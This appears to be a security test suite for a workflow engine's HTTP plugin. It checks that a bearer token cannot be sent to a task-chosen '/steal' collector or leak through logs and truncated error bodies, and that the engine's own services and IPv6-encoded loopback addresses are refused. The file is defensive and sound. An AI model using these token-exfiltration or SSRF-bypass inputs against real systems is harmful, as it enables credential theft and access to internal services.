/**
 * Issue 16, findings 4 and 6, and issue 27, items 2 and 15, through the whole stack: what a user
 * with the workflow role can make Net/Http send, and where, and what the run shows of it. This
 * installation lets plugins reach loopback (where the test servers listen), as an operator may;
 * its own ports stay refused.
 */
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { basicAs, loopbackAllowed, startTrellis, type Trellis } from '../support/harness.js';
import { definition, run, taskLogs, tasksOf } from '../support/engine-support.js';

let trellis: Trellis;
/** The API a configuration holds a token for; echoes each request's headers. */
let api: Server;
/** Somewhere else, which would collect what it is sent. */
let collector: Server;
const seenByApi: IncomingHttpHeaders[] = [];
const seenByCollector: IncomingHttpHeaders[] = [];
const token = 'tok-finding-4-9f1c2e';

async function listen(record: IncomingHttpHeaders[]): Promise<Server> {
  const server = createServer((request, response) => {
    record.push({ ...request.headers, 'x-path': request.url });
    if (request.url === '/fail') {
      // Net/Http keeps 500 characters of an error body: the cut falls on the token's last one.
      const authorization = request.headers.authorization ?? '';
      const padding = 'x'.repeat(500 - authorization.length + 1);
      response.writeHead(500, { 'content-type': 'text/plain' }).end(padding + authorization);
      return;
    }
    response
      .writeHead(200, { 'content-type': 'application/json' })
      .end(JSON.stringify({ headers: request.headers }));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return server;
}
const urlOf = (server: Server) => `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
const close = (server: Server | undefined) =>
  new Promise<void>((resolve) => (server ? server.close(() => resolve()) : resolve()));

beforeAll(async () => {
  [trellis, api, collector] = await Promise.all([
    startTrellis({ worker: true, config: loopbackAllowed }),
    listen(seenByApi),
    listen(seenByCollector),
  ]);
  await trellis.admin.POST('/config', {
    body: {
      name: 'partner-api',
      type: 'Net/Http',
      version: '1.0.0',
      specifications: { baseUrl: `${urlOf(api)}/`, bearerToken: token },
    },
  });
});
afterAll(async () => {
  await trellis?.stop();
  await close(api);
  await close(collector);
});

describe('a configuration holding a bearer token (finding 4)', () => {
  it('does not send it to a url the task chooses elsewhere', async () => {
    const workflowUser = trellis.client(basicAs('workflow'));
    const def = definition([
      {
        name: 'H',
        type: 'partner-api',
        parameters: { url: `${urlOf(collector)}/steal` },
      },
    ]);
    const { id: workflowId } = await workflowUser.POST('/workflows/Add', {
      body: { definition: JSON.stringify(def) },
    });
    const { executionId } = await workflowUser.POST('/workflows/{workflowId}/executions', {
      params: { path: { workflowId } },
      body: { workflowId },
    });
    const execution = await workflowUser.waitForExecution(workflowId, executionId, {
      timeoutMs: 60_000,
    });
    expect(execution.status).toBe('Failed');
    const tasks = await tasksOf(workflowUser, workflowId, executionId);
    expect(tasks.H!.message).toContain(
      `is outside ${urlOf(api)}, the origin of the baseUrl setting`,
    );
    expect(seenByCollector).toEqual([]);
  });

  it('keeps it out of task outputs, so Flow/Log cannot print it', async () => {
    const { workflowId, executionId, execution } = await run(
      trellis,
      definition([
        { name: 'H', type: 'partner-api', parameters: { url: 'echo' } },
        {
          name: 'Print',
          type: { plugin: 'Flow/Log' },
          dependencies: ['H'],
          parameters: { message: "auth: $[Outputs('H').body.headers.authorization]" },
        },
      ]),
    );
    expect(execution.status).toBe('Completed');
    // The API got the token it is configured for...
    expect(seenByApi.at(-1)).toMatchObject({ authorization: `Bearer ${token}` });
    // ...and nothing the run recorded holds it.
    const tasks = await tasksOf(trellis.admin, workflowId, executionId);
    expect(await taskLogs(trellis.admin, workflowId, executionId, tasks.Print!.id)).toContain(
      'auth: Bearer ********',
    );
    const rows = await trellis.db
      .selectFrom('taskExecution')
      .select(['output', 'message'])
      .where('executionId', '=', executionId)
      .execute();
    const logs = await trellis.db
      .selectFrom('logEntry')
      .select(['message', 'exception'])
      .where('executionId', '=', executionId)
      .execute();
    expect(JSON.stringify([rows, logs])).not.toContain(token);
  });
});

/** Every run of 8 characters of `secret`. */
const runsOf = (secret: string) =>
  Array.from({ length: secret.length - 7 }, (_, start) => secret.slice(start, start + 8));

describe('an error response echoing the token (issue 27, item 2)', () => {
  it('shows no 8 characters of it in the message or the logs, though the body is cut', async () => {
    const { workflowId, executionId, execution } = await run(
      trellis,
      definition([{ name: 'H', type: 'partner-api', parameters: { url: 'fail' } }]),
    );
    expect(execution.status).toBe('Failed');
    expect(seenByApi.at(-1)).toMatchObject({ authorization: `Bearer ${token}` });
    const tasks = await tasksOf(trellis.admin, workflowId, executionId);
    expect(tasks.H!.message).toMatch(/returned HTTP 500 .*: x+Bearer \*{8}/);
    const logs = await trellis.admin.GET('/workflows/{workflowId}/executions/{executionId}/logs', {
      params: { path: { workflowId, executionId }, query: { includeTasks: true } },
    });
    const shown = JSON.stringify([execution, tasks, logs]);
    for (const run of runsOf(token)) expect(shown).not.toContain(run);
  });
});

describe('the idempotency key of each attempt (issue 27, item 15)', () => {
  it('sends Idempotency-Key from the run, the task and the attempt, unless the task sets its own', async () => {
    const retries = {
      errorHandling: {
        strategy: 'Retry',
        retryPolicy: { maxRetries: 1, backoffStrategy: 'Fixed', initialDelayMilliseconds: 100 },
      },
    };
    const { workflowId, executionId, execution } = await run(
      trellis,
      definition([
        { name: 'Failing', type: 'partner-api', parameters: { url: 'fail' }, ...retries },
        {
          name: 'Own',
          type: { plugin: 'Net/Http' },
          parameters: { url: `${urlOf(collector)}/own`, headers: { 'Idempotency-Key': 'mine-1' } },
        },
        {
          name: 'Off',
          type: { plugin: 'Net/Http' },
          parameters: { url: `${urlOf(collector)}/off`, headers: { 'Idempotency-Key': '' } },
        },
      ]),
    );
    expect(execution.status).toBe('Failed');
    const tasks = await tasksOf(trellis.admin, workflowId, executionId);
    const failing = tasks.Failing!.id;
    // Each attempt its own key (a retry is a new request); a worker that died mid-attempt
    // sends the attempt again with the same key, so the receiver can tell.
    expect(seenByApi.slice(-2).map((headers) => headers['idempotency-key'])).toEqual([
      `${executionId}:${failing}:1`,
      `${executionId}:${failing}:2`,
    ]);
    const byPath = (path: string) =>
      seenByCollector.find((headers) => headers['x-path'] === path)?.['idempotency-key'];
    expect(byPath('/own')).toBe('mine-1');
    expect(byPath('/off')).toBeUndefined();
  });
});

describe("Trellis's own services (finding 6)", () => {
  it('are refused even where loopback is allowed: the API and Temporal', async () => {
    const temporal = trellis.config.Temporal.Address!;
    const { workflowId, executionId, execution } = await run(
      trellis,
      definition([
        {
          name: 'Api',
          type: { plugin: 'Net/Http' },
          parameters: {
            url: `${trellis.baseUrl}/workflows`,
            headers: { authorization: `Basic ${btoa('admin:admin-password')}` },
          },
        },
        {
          name: 'Temporal',
          type: { plugin: 'Net/Http' },
          parameters: { url: `http://${temporal}/` },
        },
      ]),
    );
    expect(execution.status).toBe('Failed');
    const tasks = await tasksOf(trellis.admin, workflowId, executionId);
    const apiPort = new URL(trellis.baseUrl).port;
    expect(tasks.Api!.message).toBe(
      `Failed: GET ${trellis.baseUrl}/workflows refused: 127.0.0.1:${apiPort} is one of Trellis's own services.`,
    );
    expect(tasks.Temporal!.message).toMatch(/refused: .* is one of Trellis's own services/);
  });
});

describe('IPv6 forms of a loopback address (issue 27, item 9)', () => {
  it('are refused where only loopback is allowed', async () => {
    const port = new URL(urlOf(collector)).port;
    const seenBefore = seenByCollector.length;
    const forms = {
      Compatible: '::127.0.0.1',
      Nat64: '64:ff9b::127.0.0.1',
      SixToFour: '2002:7f00:1::1',
    };
    const { workflowId, executionId, execution } = await run(
      trellis,
      definition(
        Object.entries(forms).map(([name, address]) => ({
          name,
          type: { plugin: 'Net/Http' },
          parameters: { url: `http://[${address}]:${port}/` },
        })),
      ),
    );
    expect(execution.status).toBe('Failed');
    const tasks = await tasksOf(trellis.admin, workflowId, executionId);
    expect(tasks.Compatible!.message).toBe(
      `Failed: GET http://[::7f00:1]:${port}/ refused: ::7f00:1 is an IPv6 form carrying 127.0.0.1, reachable only if Plugins.Network.AllowCidrs allows it.`,
    );
    for (const name of ['Nat64', 'SixToFour']) {
      expect(tasks[name]!.message).toMatch(/refused: \S+ is an IPv6 form carrying 127\.0\.0\.1/);
    }
    expect(seenByCollector.slice(seenBefore)).toEqual([]);
  });
});
